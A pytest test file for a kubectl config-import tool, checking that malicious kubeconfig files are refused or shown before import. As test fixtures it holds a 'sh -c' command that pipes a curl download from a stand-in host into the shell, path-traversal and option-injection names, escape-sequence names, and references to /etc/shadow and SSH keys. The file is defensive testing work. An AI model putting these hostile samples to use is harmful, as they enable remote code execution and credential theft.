"""Files of people who mean no good: nothing runs, nothing is written, the reason is told."""

from __future__ import annotations

from pathlib import Path

import pytest

from kubectl_share.operations.importing.trust import in_full
from kubectl_share.operations.shown_arguments import shown_arguments
from tests.support.program import CANARY, PROD, Home, snapshot

EXAMPLES = Path(__file__).resolve().parents[2] / "examples/malicious"
NEVER = "that is never imported; ask whoever made the file for another way to log in"
OTHER_NAME = "ask whoever made the file for another name; nothing is imported"
MINE = PROD.replace("prod", "mine").replace("alice", "admin")

REFUSED = {
    "alias-bomb.yaml": ("{file}:8:20: expands its aliases to an excessive size", "kubectl cannot load it either"),
    "cluster-of-mine.yaml": (
        '{file}:9:3: context "prod" names the cluster "mine", which is not in the file',
        "a context is imported only with its own cluster: it must not use one that you have",
    ),
    "duplicate-names.yaml": (
        '{file}:14:3: users has two entries named "prod"',
        "give every entry a name of its own",
    ),
    "escapes.yaml": (
        (
            '{file}:9:3: context "prod\\x1b[2J\\x1b[1;32mall is well\\x1b[0m\\x07" '
            "has a name with control characters, or with others that cannot be seen"
        ),
        OTHER_NAME,
    ),
    "hidden.yaml": (
        '{file}:9:3: context "prod\\u202etset" has a name with control characters, or with others that cannot be seen',
        OTHER_NAME,
    ),
    "no-name.yaml": ('{file}:12:3: user "" has no name', OTHER_NAME),
    "option.yaml": (
        '{file}:9:3: context "--kubeconfig=/etc/passwd" has a name that looks like an option of a command',
        OTHER_NAME,
    ),
    "provider-command.yaml": ('user "prod": its auth-provider names a command to run', NEVER),
    "traversal.yaml": (
        (
            '{file}:6:3: cluster "../../../etc/cron.d/prod" '
            "has a name that leads out of a folder where it is taken for a file"
        ),
        OTHER_NAME,
    ),
    "user-of-mine.yaml": (
        '{file}:9:3: context "prod" names the user "admin", which is not in the file',
        "a context is imported only with its own user: it must not use one that you have",
    ),
}
"""Of the files that come in under no circumstances: the error and its hint."""

ALLOWABLE = {
    "http.yaml": (
        ['cluster "prod": its server is http://, everybody in between can read along'],
        ["--allow-http", "prod"],
    ),
    "insecure.yaml": (
        ['cluster "prod": insecure-skip-tls-verify is set, anybody can pass for its server'],
        ["--allow-insecure-tls", "prod"],
    ),
    "key-file.yaml": (
        [
            'user "prod": its client-certificate names the file "/etc/passwd" of this host',
            'user "prod": its client-key names the file "../../.ssh/id_rsa" of this host',
        ],
        ["--allow-file", "/etc/passwd", "--allow-file", "../../.ssh/id_rsa"],
    ),
    "token-file.yaml": (
        ['user "prod": its tokenFile names the file "/etc/shadow" of this host'],
        ["--allow-file", "/etc/shadow"],
    ),
    "url-credentials.yaml": (
        ['cluster "prod": its proxy-url holds a user name or a password'],
        ["--allow-url-credentials", "prod"],
    ),
}
"""Of the files that come in if their owner says so: the reasons, and how to say so."""

SHOWN_SHELL = [
    'context "prod" runs a program to log in:',
    "  server:      https://203.0.113.66:6443",
    '  command:     "sh"',
    '  arguments:   "-c" "touch pwned; curl -s https://203.0.113.66/x | sh"',
    "  environment: none",
    'note: "sh" runs whatever its arguments say',
]


@pytest.fixture
def mine(home: Home) -> Home:
    """Somebody with an `admin`, and a server of their own."""
    home.has(MINE)
    return home


def test_every_example_is_here() -> None:
    here = {*REFUSED, *ALLOWABLE, "shell.yaml", "preload.yaml", "command-beside.yaml"}
    assert {path.name for path in EXAMPLES.iterdir()} == here


@pytest.mark.parametrize("name", REFUSED)
def test_refused(mine: Home, name: str) -> None:
    error, hint = REFUSED[name]
    mine.cannot("import", str(EXAMPLES / name), error=error.format(file=EXAMPLES / name), hint=hint)
    allowed = ["--allow-exec", "/bin/sh", "--allow-file", "/etc/passwd", "--allow-http", "prod"]
    mine.cannot("import", str(EXAMPLES / name), *allowed, error=error.format(file=EXAMPLES / name), hint=hint)


@pytest.mark.parametrize("name", ALLOWABLE)
def test_refused_until_it_is_allowed(mine: Home, name: str) -> None:
    reasons, options = ALLOWABLE[name]
    hint = f"if you trust whoever made it: {' '.join(options)}"
    file = str(EXAMPLES / name)
    if len(reasons) == 1:
        mine.cannot("import", file, error=reasons[0], hint=hint)
    else:
        mine.cannot(
            "import", file, error="the file is not safe, nothing is imported", hint=hint, details=tuple(reasons)
        )
    other = [word.replace("prod", "other").replace("/", "/x") for word in options]
    before = snapshot(mine.path)
    assert mine.share_quickly("import", file, *other).code == 2
    assert snapshot(mine.path) == before
    assert mine.share_quickly("import", file, *options).code == 0
    assert "- name: prod\n" in mine.config.read_text()


def test_exec_plugin_is_shown_and_refused(mine: Home) -> None:
    before = snapshot(mine.path)
    file = str(EXAMPLES / "shell.yaml")
    done = mine.share_quickly("import", file)
    assert done.err.splitlines() == [
        *SHOWN_SHELL,
        'error: user "prod": it runs "sh"',
        "hint: if you trust whoever made it: --allow-exec sh",
    ]
    assert (done.code, done.out) == (2, b"")
    assert mine.share_quickly("import", file, "--allow-exec", "bash").code == 2
    assert snapshot(mine.path) == before
    done = mine.share_quickly("import", file, "--allow-exec", "sh")
    assert done.code == 0
    assert done.err.splitlines()[: len(SHOWN_SHELL)] == SHOWN_SHELL
    assert not (mine.work / "pwned").exists()


def test_env_that_changes_what_runs_is_never_allowed(mine: Home) -> None:
    before = snapshot(mine.path)
    done = mine.share_quickly("import", str(EXAMPLES / "preload.yaml"), "--allow-exec", "aws")
    assert done.err.splitlines()[-4:] == [
        '  arguments:   "eks" "get-token" "--cluster-name" "prod"',
        '  environment: "AWS_PROFILE", "LD_PRELOAD"',
        'error: user "prod": its exec plugin sets "LD_PRELOAD", which changes what a command really runs',
        f"hint: {NEVER}",
    ]
    assert done.code == 2
    assert snapshot(mine.path) == before


def test_command_beside_the_file_is_shown_in_full(mine: Home) -> None:
    """It is not the `aws` on PATH, and an import of it keeps pointing to where it was."""
    file = EXAMPLES / "command-beside.yaml"
    done = mine.share_quickly("import", str(file), "--allow-exec", "aws")
    assert f'  command:     "{EXAMPLES}/aws"\n' in done.err
    assert done.err.splitlines()[-2:] == [
        'error: user "prod": it runs "./aws"',
        "hint: if you trust whoever made it: --allow-exec ./aws",
    ]
    assert mine.share_quickly("import", str(file), "--allow-exec", "./aws").code == 0
    assert f'command: "{EXAMPLES}/aws"\n' in mine.config.read_text()


def test_exec_plugin_like_one_of_mine_is_asked_for_too(mine: Home) -> None:
    """The same program, equal to the letter, would log in to another server."""
    theirs = (EXAMPLES / "preload.yaml").read_text().replace("LD_PRELOAD", "AWS_REGION")
    mine.has(theirs.replace("203.0.113.66", "mine.example"))
    (mine.work / "theirs").write_text(theirs)
    before = snapshot(mine.path)
    done = mine.share_quickly("import", "theirs")
    assert done.err.splitlines()[-2:] == [
        'error: user "prod": it runs "aws"',
        "hint: if you trust whoever made it: --allow-exec aws",
    ]
    assert snapshot(mine.path) == before
    assert mine.share_quickly("import", "theirs", "--allow-exec", "aws").code == 0


def test_all_reasons_at_once(mine: Home) -> None:
    text = (EXAMPLES / "http.yaml").read_text().replace("{token: made-up}", "{token: t, tokenFile: a b}")
    (mine.work / "file").write_text(text)
    mine.cannot(
        *("import", "file"),
        error="the file is not safe, nothing is imported",
        details=(
            'cluster "prod": its server is http://, everybody in between can read along',
            'user "prod": its tokenFile names the file "a b" of this host',
        ),
        hint="if you trust whoever made it: --allow-http prod --allow-file 'a b'",
    )


@pytest.mark.parametrize("server", ["prod.example", "HTTP://x", "", "//prod.example", "ftp://x"])
def test_server_that_is_not_https(mine: Home, server: str) -> None:
    (mine.work / "file").write_text(PROD.replace("https://prod.example:6443", f'"{server}"'))
    assert "server" in mine.share_quickly("import", "file").err
    (mine.work / "file").write_text(PROD.replace("https://", "HTTPS://"))
    assert mine.share_quickly("import", "file").code == 0


# What a context of mine would use


def test_new_entry_is_not_taken_for_one_that_a_context_of_mine_lacks(mine: Home) -> None:
    """My context would send my token to their server."""
    mine.has(MINE.replace("cluster: mine,", "cluster: prod,"))
    (mine.work / "file").write_text(PROD)
    assert mine.share_quickly("import", "file").code == 0
    text = mine.config.read_text()
    assert "- name: prod-2\n  cluster:" in text
    assert "- name: prod\n  context: {cluster: prod-2, user: alice}\n" in text


def test_cluster_that_a_context_of_mine_uses_is_not_replaced(mine: Home) -> None:
    mine.has(
        MINE.replace("- name: mine\n  cluster", "- name: prod\n  cluster").replace("cluster: mine,", "cluster: prod,")
    )
    (mine.work / "file").write_text(PROD)
    mine.cannot(
        *("import", "file", "--on-conflict", "replace"),
        error='cluster "prod" is not replaced: your context "mine" uses it too, '
        "and its credentials would go to another server",
        hint="--on-conflict rename imports it under another name",
    )
    assert mine.share_quickly("import", "file").code == 0


def test_user_without_a_name(mine: Home) -> None:
    """kubectl would take it for contexts that name no user."""
    (mine.work / "file").write_text(PROD.replace(", user: alice", ""))
    assert mine.share_quickly("import", "file", "--dry-run").code == 0
    mine.has(MINE.replace("- name: admin", "- name: ''"))
    mine.cannot(
        *("import", "file"),
        error='context "prod" names no user, and would log in as a user of yours that has no name',
        hint="give that user a name first",
    )


# Arguments of exec plugins


@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        (["get-token", "--cluster-name", "prod"], '"get-token" "--cluster-name" "prod"'),
        ([f"--token={CANARY}"], '"--token=(hidden)"'),
        (["--token", CANARY, "x"], '"--token" "(hidden)" "x"'),
        (["--client-secret", CANARY], '"--client-secret" "(hidden)"'),
        (["-H", f"Authorization: Bearer {CANARY}"], '"-H" "(hidden)"'),
        (["a\x1b[2J", 'q"', "\\"], r'"a\x1b[2J" "q\"" "\\"'),
        (["x" * 300], f'"{"x" * 300}"'),
    ],
)
def test_arguments_are_shown_in_full_without_secrets(arguments: list[str], shown: str) -> None:
    assert " ".join(map(in_full, shown_arguments(tuple(arguments)))) == shown
